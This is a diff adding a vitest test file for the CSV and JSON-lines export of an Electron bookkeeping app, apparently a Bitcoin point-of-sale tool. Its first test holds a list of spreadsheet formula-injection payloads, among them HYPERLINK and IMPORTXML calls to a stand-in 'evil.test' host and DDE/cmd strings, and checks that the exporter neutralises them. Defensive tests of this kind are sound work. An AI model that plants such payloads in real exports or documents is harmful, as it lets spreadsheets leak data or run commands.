@@ -1,0 +1,152 @@
+import { describe, expect, test } from 'vitest'
+import { chainHead } from '../../electron/store/chain.ts'
+import { SALES_INCOME, nodeAccount } from '../../electron/domain/accounts.ts'
+import { CSV_COLUMNS, textCell } from '../../electron/domain/exports/csv.ts'
+import { NODE, tempBook } from '../store/fixtures.ts'
+import { readCsv, readJsonLines } from './read-back.ts'
+import { CUSTOMER, fillSample, post } from './sample-book.ts'
+import { write } from './write.ts'
+
+const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n']
+const PAYLOADS = [
+  'HYPERLINK("https://evil.test";"click")',
+  "cmd|' /C calc'!A0",
+  'SUM(A1:A9)',
+  '1+1',
+  '2,5',
+  'a"b',
+  'a""b"',
+  'line\r\nline',
+  'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
+  'DDE("cmd";"/C calc";"x")',
+]
+/** 70 that a spreadsheet would run, and 30 that only try to break the table. */
+const NASTY = [
+  ...STARTS.flatMap((start) => PAYLOADS.map((payload) => start + payload)),
+  ...PAYLOADS,
+  ...PAYLOADS.map((payload) => ` ${payload}`),
+  '"',
+  '""',
+  ',',
+  '\u202eevil',
+  '\u0000nul',
+  "'=already",
+  '😀,"😀"',
+  'Größe; Maß',
+  'x'.repeat(180),
+  '\ufeffbom',
+]
+
+describe('the CSV', () => {
+  test('reliability 6: a hundred nasty notes come back as text, none as a formula', async () => {
+    expect(NASTY).toHaveLength(100)
+    const book = tempBook()
+    const legs = NASTY.map((memo, index) => ({
+      debit: nodeAccount(NODE),
+      credit: SALES_INCOME,
+      amount: 1n,
+      currency: 'BTC',
+      kind: 'single' as const,
+      reference: `${index} ${memo}`.slice(0, 200),
+      memo,
+    }))
+    post(book, 'nasty', legs)
+    const rows = readCsv((await write(book)).text)
+    expect(rows).toHaveLength(100)
+    for (const row of rows) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
+    }
+    const memos = rows.map((row) => row['memo'] ?? '')
+    expect(memos.map((memo, index) => (memo === NASTY[index] ? memo : memo.slice(1)))).toEqual(
+      NASTY,
+    )
+    const lines = readJsonLines((await write(book, { format: 'jsonl' })).text)
+    expect(lines.map((line) => line['memo'])).toEqual(NASTY)
+  })
+
+  test.each([
+    ['=1', "'=1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@a', "'@a"],
+    ['\ta', "'\ta"],
+    ['\ra', "'\ra"],
+    ['a=1', 'a=1'],
+    ['', ''],
+  ])('guards %j', (text, cell) => {
+    expect(textCell(text)).toBe(cell)
+  })
+
+  test('pain 24: has fiat, rate, tax, tip and offset in columns of their own', async () => {
+    const book = tempBook()
+    fillSample(book)
+    const { text } = await write(book)
+    expect(text.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','))
+    const [sale, tax, tip, bought] = readCsv(text)
+    expect(sale).toMatchObject({
+      amount: '9548740',
+      unit: 'msat',
+      amount_decimal: '0.00009548740',
+      fiat_currency: 'EUR',
+      fiat_amount: '8.40',
+      rate_per_btc: '88004.1',
+      rate_sources: 'kraken',
+      effective_at: '2025-11-21T05:40:00.000+01:00',
+      net: '0.00009548740',
+      tax: '',
+      tip: '',
+      receipt_number: '1',
+      operator: 'Zoë',
+      till: 'Till 1',
+      kind: 'single',
+    })
+    expect(sale?.['payment_hash']).toHaveLength(64)
+    expect(sale?.['entry_hash']).toMatch(/^[0-9a-f]{64}$/)
+    expect(tax).toMatchObject({ net: '', tax_rate: '19', tax: '0.00001814260', tip: '' })
+    expect(tip).toMatchObject({ net: '', tax: '', tip: '0.00000200001', fiat_amount: '0.18' })
+    // Without tax beside it, income says nothing of net.
+    expect(bought).toMatchObject({ net: '', tax: '', tax_rate: '', tip: '' })
+  })
+
+  test('the kinds, links and time limits of reservations stand in their columns', async () => {
+    const book = tempBook()
+    fillSample(book)
+    const rows = readCsv((await write(book, { customerId: CUSTOMER })).text)
+    expect(rows.map((row) => row['kind'])).toEqual([
+      'single',
+      'pending',
+      'post',
+      'pending',
+      'void',
+      'pending',
+    ])
+    expect(rows[2]?.['resolves_entry']).toBe(rows[1]?.['entry'])
+    expect(rows[1]?.['held_until']).toBe('2025-12-12T05:40:00.000+01:00')
+    expect(rows.every((row) => row['customer'] === 'Ada Größer')).toBe(true)
+    const fixed = readCsv((await write(book, { currency: 'EUR', timeZone: 'Asia/Kolkata' })).text)
+    expect(fixed[1]).toMatchObject({
+      corrects_entry: fixed[0]?.['entry'],
+      reason: 'counted again',
+      effective_at: '2025-11-21T10:10:00.000+05:30',
+    })
+  })
+
+  test('what is booked after the start is not in it', async () => {
+    const book = tempBook()
+    fillSample(book)
+    const before = await write(book)
+    const { seq } = book.read(chainHead)
+    const credit = { code: 'income:new', currency: 'BTC', kind: 'income', limit: 'none' } as const
+    const leg = { currency: 'BTC', kind: 'single' as const, amount: 1n }
+    post(book, 'late', [{ ...leg, debit: nodeAccount(NODE), credit, reference: 'late' }])
+    const { writeExport } = await import('../../electron/exports/write-export.ts')
+    const { order } = await import('./sample-book.ts')
+    for (const format of ['csv', 'hledger'] as const) {
+      const target = `${before.path}-${format}`
+      const work = { bookFile: book.file, target, order: order({ format }), headSeq: seq }
+      const again = await writeExport(work, () => {}, new AbortController().signal)
+      expect(again.entries).toBe(before.entries)
+      if (format === 'csv') expect(again.sha256).toBe(before.sha256)
+    }
+  })
+})
